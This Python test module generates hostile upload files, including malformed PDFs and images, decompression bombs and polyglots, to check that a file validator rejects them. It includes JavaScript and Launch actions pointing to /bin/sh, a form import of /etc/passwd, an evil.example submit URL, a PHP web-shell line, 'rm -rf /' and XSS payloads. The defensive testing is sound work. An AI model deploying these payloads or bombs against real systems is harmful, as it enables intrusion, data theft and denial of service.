"""Files that want something else than to be read: made by code, none of them from anywhere.

Each comes with what it is called, and with the reason for which it has to be refused. What is not
refused (`None`) has to come out harmless: nothing of `MARK` may be in what is kept of it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from typing import Any, Final

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from directory.domain.entry.faults import FaultCode
from tests.adapters import good_files

MARK: Final = b"app.alert(1)"
_SCRIPT: Final = MARK.decode()
ACTIVE, BROKEN = FaultCode.EVIDENCE_ACTIVE, FaultCode.EVIDENCE_DAMAGED
LOCKED, TWO = FaultCode.EVIDENCE_ENCRYPTED, FaultCode.EVIDENCE_OTHER_THAN_NAMED
PIXELS, PAGES = FaultCode.EVIDENCE_MANY_PIXELS, FaultCode.EVIDENCE_MANY_PAGES
KIND = FaultCode.EVIDENCE_KIND


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file, and the reasons of which one has to be given; none: it comes out harmless."""

    name: str
    content: bytes
    because: tuple[FaultCode | None, ...]


def hostile_files() -> Iterator[Hostile]:
    """Make all of them."""
    for name, change in _ACTIVE.items():
        made = good_files.pdf()
        change(made)
        yield Hostile(f"{name}.pdf", good_files.written(made), (ACTIVE,))
    yield from _hidden()
    yield from _locked()
    yield from _broken_pdfs()
    yield from _pdf_bombs()
    yield from _pictures()
    yield from _picture_bombs()
    yield from _two_kinds()
    yield from _other_kinds()


def _js(**more: Any) -> Dictionary:  # noqa: ANN401
    return Dictionary(S=Name.JavaScript, JS=String(_SCRIPT), **more)


def _action(kind: str, **more: Any) -> Dictionary:  # noqa: ANN401
    return Dictionary(S=Name(f"/{kind}"), **more)


def _root(**values: Any) -> Callable[[pikepdf.Pdf], None]:  # noqa: ANN401
    def change(made: pikepdf.Pdf) -> None:
        for key, value in values.items():
            made.Root[f"/{key}"] = value

    return change


def _opening(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    return _root(OpenAction=action)


def _annotation(**values: Any) -> Callable[[pikepdf.Pdf], None]:  # noqa: ANN401
    def change(made: pikepdf.Pdf) -> None:
        made_of = Dictionary(Type=Name.Annot, Rect=[0, 0, 100, 100], **values)
        annotation = made.make_indirect(made_of)
        made.pages[0].Annots = made.make_indirect(Array([annotation]))
        if values["Subtype"] == Name.Widget:
            made.Root.AcroForm = Dictionary(Fields=Array([annotation]))

    return change


def _stream(**values: Any) -> Callable[[pikepdf.Pdf], None]:  # noqa: ANN401
    def change(made: pikepdf.Pdf) -> None:
        made.Root.Extra = made.make_stream(MARK, **values)

    return change


def _page(**values: Any) -> Callable[[pikepdf.Pdf], None]:  # noqa: ANN401
    def change(made: pikepdf.Pdf) -> None:
        for key, value in values.items():
            made.pages[0][f"/{key}"] = value

    return change


def _deep(made: pikepdf.Pdf) -> None:
    nested: Any = _js()
    for _ in range(60):
        nested = Array([Dictionary(A=nested)])
    made.Root.Extra = nested


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ" + MARK


def _lonely(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents.Extra = made.make_indirect(_js())


_FORM: Final = Dictionary(Fields=[], XFA=String("<xdp/>"))
_FIELD: Final = {"Subtype": Name.Widget, "FT": Name.Tx, "T": String("a")}
_ACTIVE: Final[dict[str, Callable[[pikepdf.Pdf], None]]] = {
    "script on opening": _opening(_js()),
    "launch on opening": _opening(_action("Launch", F=String("/bin/sh"))),
    "script after a place": _opening(_action("GoTo", D=[0, Name.Fit], Next=_js())),
    "uri on opening": _opening(_action("URI", URI=String("https://evil.example"))),
    "words on opening": _root(OpenAction=String(_SCRIPT)),
    "remote on opening": _opening(_action("GoToR", F=String(r"\\evil\x"), D=[0, Name.Fit])),
    "embedded on opening": _opening(_action("GoToE", F=String("x"), D=[0, Name.Fit])),
    "script of the document": _root(AA=Dictionary(WC=_js())),
    "script of a page": _page(AA=Dictionary(O=_js())),
    "script by name": _root(
        Names=Dictionary(JavaScript=Dictionary(Names=[String("a"), _js()]))
    ),
    "script of a link": _annotation(Subtype=Name.Link, A=_js()),
    "launch of a link": _annotation(Subtype=Name.Link, A=_action("Launch", F=String("calc"))),
    "remote of a link": _annotation(Subtype=Name.Link, A=_action("GoToR", F=String("x"))),
    "script of a field": _annotation(**_FIELD, AA=Dictionary(K=_js())),
    "submitting": _annotation(**_FIELD, A=_action("SubmitForm", F=String("https://evil.example"))),
    "importing": _annotation(**_FIELD, A=_action("ImportData", F=String("/etc/passwd"))),
    "resetting": _annotation(**_FIELD, A=_action("ResetForm")),
    "script of a bookmark": _root(Outlines=Dictionary(First=Dictionary(A=_js()))),
    "xfa form": _root(AcroForm=_FORM),
    "attachment": _attached,
    "attachment of a page": _annotation(Subtype=Name.FileAttachment, FS=Dictionary(F=String("x"))),
    "associated file": _root(AF=[Dictionary(Type=Name.Filespec, EF=Dictionary())]),
    "portfolio": _root(Collection=Dictionary(View=Name.T)),
    "rich media": _annotation(Subtype=Name.RichMedia),
    "rich media content": _annotation(Subtype=Name.Square, RichMediaContent=Dictionary()),
    "three dimensions": _annotation(Subtype=Name("/3D")),
    "u3d stream": _stream(Type=Name("/3D"), Subtype=Name.U3D),
    "movie": _annotation(Subtype=Name.Movie),
    "sound": _annotation(Subtype=Name.Sound),
    "sound action": _opening(_action("Sound")),
    "screen": _annotation(Subtype=Name.Screen, A=_action("Rendition", JS=String(_SCRIPT))),
    "rendition": _root(Extra=_action("Rendition", OP=4)),
    "embedded stream": _stream(Type=Name.EmbeddedFile),
    "script stream": _stream(JS=String("x")),
    "transition action": _opening(_action("Trans")),
    "nested deeply": _deep,
    "in something unused": _lonely,
}  # fmt: skip


def _hidden() -> Iterator[Hostile]:
    made = good_files.pdf()
    made.Root.Extra = made.make_indirect(_js())
    packed = pikepdf.ObjectStreamMode.generate
    yield Hostile(
        "in a packed object.pdf", good_files.written(made, object_stream_mode=packed), (ACTIVE,)
    )
    plain = good_files.written(made, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    for what, letters in (
        ("key", (b"/JS ", b"/#4aS ")),
        ("type", (b"/JavaScript", b"/J#61vaScript")),
    ):
        yield Hostile(f"escaped {what}.pdf", plain.replace(*letters), (ACTIVE,))
    # An object that nothing refers to, added behind the end with a table of its own.
    extra = b"\n99 0 obj\n<< /S /JavaScript /JS (%b) >>\nendobj\n" % MARK
    at = len(plain) + 1
    table = b"xref\n99 1\n%010d 00000 n \n" % at
    start = plain.rindex(b"startxref")
    before = plain[start:].split()[1]
    root = plain[plain.rindex(b"/Root") :].split()[1]
    trailer = b"trailer\n<< /Size 100 /Root %b 0 R /Prev %b >>\nstartxref\n%d\n%%%%EOF\n"
    added = plain + extra + table + trailer % (root, before, at + len(extra) - 1)
    yield Hostile("added later and unused.pdf", added, (ACTIVE,))
    # The document is repaired by whoever reads it; the script is found then too.
    torn = plain.replace(b"startxref", b"startxxxx")
    yield Hostile("script in a torn document.pdf", torn, (ACTIVE,))


def _locked() -> Iterator[Hostile]:
    for revision, aes in ((3, False), (4, True), (6, True)):
        for user, who in (("secret", "for all"), ("", "for change")):
            lock = pikepdf.Encryption(owner="owner", user=user, R=revision, aes=aes, metadata=aes)  # type: ignore[arg-type]
            content = good_files.written(good_files.pdf(), encryption=lock)
            yield Hostile(f"locked {revision} {who}.pdf", content, (LOCKED,))


def raw_pdf(*objects: bytes, root: bytes = b"1 0 R") -> bytes:
    """Write a document by hand, as no library would."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %b >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        start,
    )
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), extra, content)


def one_page(contents: bytes, *, box: bytes = b"0 0 612 792", more: bytes = b"") -> bytes:
    """Write a document of one page; `more`: entries of its resources; further objects from 5 on."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%b] /Contents 4 0 R /Resources << %b >> >>"
        % (box, more),
        contents,
    )


def _broken_pdfs() -> Iterator[Hostile]:
    fine = good_files.good_pdf()
    ring = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"
    )
    itself = fine.replace(b"%%EOF", b"") + b"trailer\n<< /Size 9 /Prev 9 >>\nstartxref\n9\n%%EOF"
    deep = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /Extra %b >>" % (b"[" * 60_000 + b"]" * 60_000))
    for name, content, because in (
        ("half", fine[: len(fine) // 2], (BROKEN,)),
        ("head", b"%PDF-1.7\n", (BROKEN,)),
        ("noise", b"%PDF-1.7\n" + bytes(range(256)) * 500, (BROKEN,)),
        ("nothing", b"%PDF-1.7\n" + b"\0" * 100_000, (BROKEN,)),
        ("no pages", good_files.written(pikepdf.new()), (BROKEN,)),
        ("twenty-one pages", good_files.good_pdf(21), (PAGES,)),
        ("ten thousand pages", _many_pages(10_000), (PAGES, BROKEN)),
        ("ring of pages", ring, (BROKEN,)),
        ("table of itself", itself, (BROKEN, None)),
        ("sixty thousand brackets", deep, (BROKEN,)),
        ("no root", raw_pdf(b"null"), (BROKEN,)),
        ("root of itself", raw_pdf(b"1 0 R"), (BROKEN,)),
        ("endless page", one_page(stream(b""), box=b"0 0 1e9 1e9"), (BROKEN, None)),
        ("page of no size", one_page(stream(b""), box=b"0 0 0 0"), (BROKEN, None)),
        ("page inside out", one_page(stream(b""), box=b"9 9 -9 -9"), (BROKEN, None)),
        ("thin page", one_page(stream(b""), box=b"0 0 1 14400"), (BROKEN, None)),
        ("box of words", one_page(stream(b""), box=b"(a) (b) /c null"), (BROKEN, None)),
        ("wrong length", one_page(stream(b"q Q").replace(b"Length 3", b"Length 99999999")),
         (BROKEN, None)),
    ):  # fmt: skip
        yield Hostile(f"{name}.pdf", content, because)


def _many_pages(number: int) -> bytes:
    kids = b" ".join(b"3 0 R" for _ in range(number))
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, number),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    )


@cache
def _zeros(megabytes: int, *, byte: bytes = b"\0") -> bytes:
    """Pack many bytes into few."""
    packer = zlib.compressobj(1)
    block = byte * (1 << 20)
    parts = [packer.compress(block) for _ in range(megabytes)]
    return b"".join(parts) + packer.flush()


_FLATE: Final = b"/Filter /FlateDecode"


def _pdf_bombs() -> Iterator[Hostile]:
    picture = b"/Type /XObject /Subtype /Image /BitsPerComponent 8 /ColorSpace /DeviceRGB " + _FLATE
    huge = stream(_zeros(2), picture + b" /Width 60000 /Height 60000")
    laughs = [
        stream(
            b"/F Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
            b"/Resources << /XObject << /F %d 0 R >> >>" % (n + 1),
        )
        for n in range(5, 14)
    ]
    tile = stream(
        b"0 0 1 1 re f",
        b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 "
        b"/Resources << >>",
    )
    function = stream(
        b"{ %b }" % (b"2 copy exp sin cos " * 2_000),
        b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]",
    )
    shade = b"<< /ShadingType 1 /ColorSpace /DeviceRGB /Function 5 0 R /Domain [0 1 0 1] >>"
    pages = b"/XObject << /F 5 0 R >>"
    bombs = {
        "page of zeros": one_page(stream(_zeros(900), _FLATE)),
        "page of brackets": one_page(stream(_zeros(300, byte=b"["), _FLATE)),
        "page of saves": one_page(stream(_zeros(300, byte=b"q "), _FLATE)),
        "packed twice": one_page(
            stream(zlib.compress(_zeros(900), 9), b"/Filter [/FlateDecode /FlateDecode]")
        ),
        "huge picture": _with(pages, [huge], b"600 0 0 700 0 0 cm /F Do"),
        "a laugh of a thousand million": _with(
            pages, [*laughs, stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form")], b"/F Do"
        ),
        "form in itself": _with(
            pages,
            [
                stream(
                    b"/F Do /F Do",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
                    b"/Resources << /XObject << /F 5 0 R >> >>",
                )
            ],
            b"/F Do",
        ),
        "tiny tiles": _with(
            b"/Pattern << /P 5 0 R >>", [tile], b"/Pattern cs /P scn 0 0 612 792 re f"
        ),
        "slow shade": _with(b"/Shading << /S 6 0 R >>", [function, shade], b"/S sh"),
        "million lines": one_page(stream(zlib.compress(b"0 0 m 612 792 l S " * 500_000), _FLATE)),
        "wide predictor": one_page(
            stream(
                _zeros(1),
                _FLATE + b" /DecodeParms << /Predictor 15 /Columns 2000000000 /Colors 30 >>",
            )
        ),
        "many objects": raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            *[b"[[] [] [] [] [] [] [] []]"] * 60_000,
        ),
    }
    for name, content in bombs.items():
        yield Hostile(f"{name}.pdf", content, (BROKEN, None))


def _with(resources: bytes, objects: list[bytes], contents: bytes) -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << %b >> >>" % resources,
        stream(contents),
        *objects,
    )


def chunk(kind: bytes, content: bytes) -> bytes:
    """Write a part of a PNG file."""
    whole = kind + content
    return struct.pack(">I", len(content)) + whole + struct.pack(">I", zlib.crc32(whole))


def raw_png(width: int, height: int, *parts: bytes, packed: bytes = b"") -> bytes:
    """Write a PNG file by hand."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", packed or zlib.compress(b"\0" * 1_000))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(parts) + body + chunk(b"IEND", b"")


def _sized_jpeg(width: int, height: int) -> bytes:
    fine = good_files.jpeg()
    at = fine.index(b"\xff\xc0") + 5
    return fine[:at] + struct.pack(">HH", height, width) + fine[at + 4 :]


def _sized_heic(width: int, height: int) -> bytes:
    fine = good_files.heic()
    at = fine.index(b"ispe") + 8
    return fine[:at] + struct.pack(">II", width, height) + fine[at + 8 :]


def _pictures() -> Iterator[Hostile]:
    png, jpeg, heic = good_files.png(), good_files.jpeg(), good_files.heic()
    exif = Image.Exif()
    exif[0x9286] = _SCRIPT
    exif[0x010E] = _SCRIPT
    text = chunk(b"tEXt", b"Comment\0" + b"-" * 1_100 + MARK)
    for name, content, because in (
        ("half.png", png[: len(png) // 2], BROKEN),
        ("half.jpg", jpeg[: len(jpeg) // 2], BROKEN),
        ("half.heic", heic[: len(heic) // 2], BROKEN),
        ("head.png", png[:33], BROKEN),
        ("head.jpg", jpeg[:20], BROKEN),
        ("head.heic", heic[:40], BROKEN),
        ("noise.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 99, BROKEN),
        ("noise.jpg", b"\xff\xd8\xff" + bytes(range(256)) * 99, BROKEN),
        ("noise.heic", heic[:40] + bytes(range(256)) * 99, BROKEN),
        ("altered.png", png[:60] + b"\xff" * 8 + png[68:], BROKEN),
        ("of no size.png", raw_png(0, 0), BROKEN),
        ("promises.png", raw_png(4_000, 4_000), BROKEN),
        ("said in a comment.jpg", good_files.jpeg(comment=b"-" * 1_100 + MARK), None),
        ("said by a camera.jpg", good_files.jpeg(exif=exif), None),
        ("said by a telephone.heic", good_files.heic(exif=exif), None),
        ("said in a part.png", raw_png(1, 1, text, packed=zlib.compress(b"\0\0\0\0")), None),
        ("said at the end.png", png + MARK, None),
        ("said at the end.jpg", jpeg + MARK, None),
        ("a profile of words.jpg", good_files.jpeg(icc_profile=b"-" * 1_100 + MARK), None),
    ):
        yield Hostile(name, content, (because,))


def _picture_bombs() -> Iterator[Hostile]:
    words = chunk(b"zTXt", b"Comment\0\0" + _zeros(900))
    profile = chunk(b"iCCP", b"a\0\0" + _zeros(900))
    frames = [Image.new("RGB", (64, 64), (n % 250, 0, 0)) for n in range(400)]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    scans = good_files.jpeg(progressive=True)
    scan = scans[scans.index(b"\xff\xda") : -2]
    for name, content, because in (
        ("sixty thousand squared.png", raw_png(60_000, 60_000), (PIXELS,)),
        ("negative.png", raw_png(2**31, 2**31), (PIXELS, BROKEN)),
        ("two thousand million wide.png", raw_png(2**31 - 1, 1), (PIXELS,)),
        ("as large as can be.jpg", _sized_jpeg(65_535, 65_535), (PIXELS,)),
        ("as large as can be.heic", _sized_heic(60_000, 60_000), (PIXELS, BROKEN)),
        ("packed.png", raw_png(7_000, 7_000, packed=_zeros(141)), (None,)),
        ("too much packed.png", raw_png(64, 64, packed=_zeros(900)), (None, BROKEN)),
        ("words packed.png", raw_png(64, 64, words, packed=_zeros(1)), (None, BROKEN)),
        ("profile packed.png", raw_png(64, 64, profile, packed=_zeros(1)), (None, BROKEN)),
        ("moving.png", out.getvalue(), (None,)),
        ("ten thousand scans.jpg", scans[:-2] + scan * 10_000 + b"\xff\xd9", (None, BROKEN)),
    ):
        yield Hostile(name, content[: 10 << 20], because)


def zipped() -> bytes:
    """Pack a program into an archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", "<script>alert(1)</script>")
    return out.getvalue()


def _two_kinds() -> Iterator[Hostile]:
    archive, document = zipped(), good_files.good_pdf()
    page = b"<html><script>alert(1)</script></html>"
    in_png = raw_png(1, 1, chunk(b"tEXt", b"a\0" + page), packed=zlib.compress(b"\0\0\0\0"))
    pdf_in_png = raw_png(1, 1, chunk(b"tEXt", document), packed=zlib.compress(b"\0\0\0\0"))
    for name, content in (
        ("document and archive.pdf", document + archive),
        ("picture and archive.jpg", good_files.jpeg() + archive),
        ("picture and archive.png", good_files.png() + archive),
        ("picture and archive.heic", good_files.heic() + archive),
        ("picture and document.jpg", good_files.jpeg(comment=document)),
        ("picture and document.png", pdf_in_png),
        ("picture and page.jpg", good_files.jpeg(comment=page)),
        ("picture and page.png", in_png),
        ("picture and program.jpg", good_files.jpeg(comment=b"<?php system($_GET[0]);")),
        ("document and page.pdf", document[:9] + b"% " + page + b"\n" + document[9:]),
    ):
        yield Hostile(name, content, (TWO,))


def _other_kinds() -> Iterator[Hostile]:
    document, png = good_files.good_pdf(), good_files.png()
    small = good_files.picture(size=(8, 8))
    for name, content in (
        ("a page.pdf", b"<!doctype html><script>alert(1)</script>"),
        ("a drawing.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("a program.pdf", b"MZ\x90\0" + b"\0" * 500),
        ("a script.jpg", b"#!/bin/sh\nrm -rf /\n"),
        ("an archive.pdf", zipped()),
        ("a letter.pdf", b"{\\rtf1 hello}"),
        ("a print.pdf", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"),
        ("moved.png", good_files.saved(small, "GIF")),
        ("scanned.jpg", good_files.saved(small, "TIFF")),
        ("new.jpg", good_files.saved(small, "WEBP")),
        ("newer.heic", good_files.saved(small, "AVIF")),
        ("old.png", good_files.saved(small, "BMP")),
        ("behind a space.pdf", b" " + document),
        ("behind a mark.pdf", b"\xef\xbb\xbf" + document),
        ("behind a program.pdf", b"MZ" + document),
    ):
        yield Hostile(name, content, (KIND,))
    for name, content in (
        ("a document.jpg", document),
        ("a picture.pdf", png),
        ("a photograph.heic", good_files.jpeg()),
    ):
        yield Hostile(name, content, (TWO,))
    yield Hostile("empty.pdf", b"", (FaultCode.EVIDENCE_EMPTY,))
    yield Hostile("much.pdf", document + b"\0" * (10 << 20), (FaultCode.EVIDENCE_TOO_BIG,))
